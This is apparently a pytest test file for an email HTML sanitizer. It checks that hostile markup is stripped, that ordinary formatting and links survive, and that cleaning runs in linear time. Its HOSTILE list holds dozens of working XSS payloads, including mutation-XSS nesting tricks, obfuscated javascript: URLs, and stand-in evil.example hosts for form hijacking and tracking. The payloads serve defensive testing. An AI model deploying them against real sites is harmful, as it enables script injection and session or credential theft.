"""Safe HTML: what hostile mails really send, what honest ones need, and that neither takes long."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from derman.kernel.html import clean, from_text, to_text
from derman.kernel.html.cleaning import ATTRIBUTES, TAGS

KEY = "k" * 32
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>unclosed alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src='x' / onerror=alert(1) />",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><rect width=100 height=100 /></a></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mi><table><mtext></mtext><mglyph><style><math><![CDATA[</style><img src onerror=alert(1)>]]>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    '<title><a href="</title><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a><a href='/accounts/logout/'>x</a><a href='#top'>x</a>",
    "<a href='http://a' onclick=alert(1) style='position:fixed;inset:0' class=button id=send target=_self>x</a>",
    "<base href='http://evil.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css><style>@import 'http://evil.example';</style>",
    '<div style="background:url(http://evil.example/p.gif);expression(alert(1))">x</div>',
    "<table background=http://evil.example/p.gif><td background='javascript:alert(1)'>x</table>",
    "<form action=http://evil.example/><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image><input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1) background=http://evil.example/p.gif><p>x</p></body>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<?xml version='1.0'?><?php <script>alert(1)</script> ?>",
    "</<script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img\x00 src=x on\x00error=alert(1)>",
    "<img src='/files/" + KEY + "/' srcset='http://evil.example/p.gif' loading=lazy onload=alert(1)>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<span data-mention='1\"onmouseover=alert(1) x=\"'>x</span>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)",
    "<a href=http://a><img src=x onerror=alert(1)></a",
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
]


class Strict(HTMLParser):
    """Fails on whatever is not on the list: a second opinion, by another parser."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            allowed = ATTRIBUTES.get(tag, set()) | ({"rel", "target"} if tag == "a" else set())
            assert name in allowed, (tag, name)
            if name in ("href", "src"):
                assert re.match(r"(https?://|mailto:|tel:|/files/)", value, re.IGNORECASE), value
            if name == "src":
                assert value.startswith("/files/"), value
        if tag == "a":
            assert dict(attrs)["rel"] == "noopener noreferrer nofollow"
            assert dict(attrs)["target"] == "_blank"

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def is_safe(html: str) -> bool:
    strict = Strict()
    strict.feed(html)
    strict.close()
    return True


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html):
    assert is_safe(clean(html))
    # and not behind a tag or a quote that is open
    for before in ("<table><tr>", "<b><a href='http://x'>", '<p title="', "<!--", "<svg>", "<math>", "<select>"):
        assert is_safe(clean(before + html))
    assert is_safe(clean(clean(html)))


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_as_text_is_only_text(html):
    assert is_safe(from_text(html))
    assert is_safe(from_text(to_text(html)))


PIECES = st.sampled_from(
    [
        *("<", ">", "'", '"', "=", "/", "<!--", "-->", "&", "&lt;", "&#x3c;", "javascript:", " ", "\n", "<p>", "</p>"),
        *("<a href=", "<img src=", " onerror=alert(1)", "<svg>", "<math>", "<style>", "</style>", "<table>", "<td>"),
        *("<script>", "</script>", "<mglyph>", "<b title='", "http://x", "cid:a", "]]>", "<![CDATA[", "\0", "ş", "x"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_no_mixture_of_pieces_gets_through(html):
    once = clean(html)
    assert is_safe(once)
    assert clean(once) == once or is_safe(clean(once))
    assert "\0" not in once
    assert is_safe(from_text(html))
    to_text(html)


def test_structure_stays():
    html = (
        "<h2>Plan</h2><p>Do <b>this</b>:<br>now</p><ul><li>one</li><li>two</li></ul><blockquote>so</blockquote>"
        '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table><pre>x  y</pre>'
    )
    assert clean(html) == html


def test_look_falls_away_and_its_text_stays():
    html = '<div class="x" style="color:red" id="y"><font color="red"><center>Hello</center></font></div>'
    assert clean(html) == "<div>Hello</div>"


def test_links_open_apart_and_tell_nobody():
    assert clean("<a href='https://ege.example/?a=1&copy=2'>x</a>") == (
        '<a href="https://ege.example/?a=1&amp;copy=2" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )


def test_an_address_in_pointed_brackets_is_text():
    assert clean("Selin <selin@ege.example> wrote") == "Selin &lt;selin@ege.example&gt; wrote"


def test_pictures_of_the_mail_are_shown():
    html = clean("<img src='cid:<logo@1>' alt=Logo width=20>", images={"logo@1": f"/files/{KEY}/"})
    assert html == f'<img src="/files/{KEY}/" alt="Logo" width="20">'


def test_a_picture_that_is_missing_says_what_it_was():
    assert clean("<p><img src=cid:gone alt='The error'></p>") == "<p>The error</p>"


def test_pictures_of_other_servers_are_not_loaded():
    html = clean("<img src='https://cdn.example/a/shot.png'>")
    assert "<img" not in html
    assert '<a href="https://cdn.example/a/shot.png"' in html
    assert ">shot.png</a>" in html


def test_a_picture_that_nobody_can_see_leaves_no_trace():
    assert clean("<p>x<img src='https://t.example/open?u=1' width=1 height=1></p>") == "<p>x</p>"


def test_a_picture_in_a_link_leaves_the_link():
    html = clean("<a href='https://ege.example'><img src='https://cdn.example/shot.png' alt='Shop'></a>")
    assert html.count("<a ") == 1
    assert ">Shop</a>" in html


@pytest.mark.parametrize(
    "piece",
    [
        *("<div>", "<b><p>", "<table><tr><td>", "<ul><li>", "<!--", '<a "', "<a x='", "&amp;", "&", "<", "<a@", "<p> "),
        *("<script>", "</p>", "<font color=1><p>x", "<svg>", "<a =", "</", "www.", "a@", "http://x)", " \n"),
    ],
)
def test_time_grows_with_the_length_and_no_faster(piece):
    def seconds(length: int) -> float:
        html = piece * (length // len(piece))
        started = time.process_time()
        assert len(clean(html)) < 6_000_000
        to_text(html)
        from_text(html)
        return time.process_time() - started

    # ten times the length; what grows with the square of it takes a hundred times as long
    assert seconds(120_000) < 30 * max(seconds(12_000), 0.02)


def test_many_attributes_and_many_open_elements_cost_little():
    started = time.process_time()
    clean("<div " + " ".join(f"a{number}=1" for number in range(50_000)) + ">")
    clean("".join(f"<b title={number}>" for number in range(10_000)) + "<p>x" * 20_000)
    assert time.process_time() - started < 10


def test_elements_inside_each_other_are_bounded_and_their_text_stays():
    assert re.fullmatch(r"(<div>){100}x(</div>){100}", clean("<div>" * 5000 + "x"))


def test_unclosed_paragraphs_and_entries_stay_apart():
    assert clean("<p>a<p>b<ul><li>1<li>2</ul>") == "<p>a</p><p>b</p><ul><li>1</li><li>2</li></ul>"
    assert clean("<p>x" * 300).count("<p>x</p>") == 300


def test_text_becomes_paragraphs_with_links():
    assert from_text("Hi <b>\n\nsee https://ege.example/a?b=1&c=2.\nBye") == (
        "<p>Hi &lt;b&gt;</p><p>see "
        '<a href="https://ege.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">'
        "https://ege.example/a?b=1&amp;c=2</a>.<br>Bye</p>"
    )


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("(www.ege.example/x)", "https://www.ege.example/x"),
        ("https://ege.example/a_(b), then", "https://ege.example/a_(b)"),
        ("write to selin@ege.example.", "mailto:selin@ege.example"),
        ("https://ege.example/ğüş?q=ı!", "https://ege.example/ğüş?q=ı"),
    ],
)
def test_what_of_a_text_is_a_link(text, address):
    assert re.findall('href="([^"]+)"', from_text(text)) == [address]


def test_indents_of_a_log_stay():
    assert from_text("error:\n    at line 3") == "<p>error:<br>\u00a0\u00a0\u00a0\u00a0at line 3</p>"


def test_html_reads_as_text():
    html = (
        "<style>p{}</style><p>Hello&nbsp;Mert,</p><p>see <a href='https://ege.example/vpn'>the page</a> or "
        "<a href='https://ege.example/'>ege.example</a>.<br>Then</p><ol><li>restart<li>try again</ol>"
        "<blockquote><p>It drops.</p></blockquote><table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>"
    )
    assert to_text(html) == (
        "Hello Mert,\n\nsee the page (https://ege.example/vpn) or ege.example.\nThen\n\n"
        "1. restart\n2. try again\n\n> It drops.\n\na  b\nc"
    )


def test_text_is_not_taken_for_html():
    assert to_text("a \n b") == "a \n b"
    assert to_text("1 &lt; 2 <b>and</b> 3 < 4") == "1 < 2 and 3 < 4"
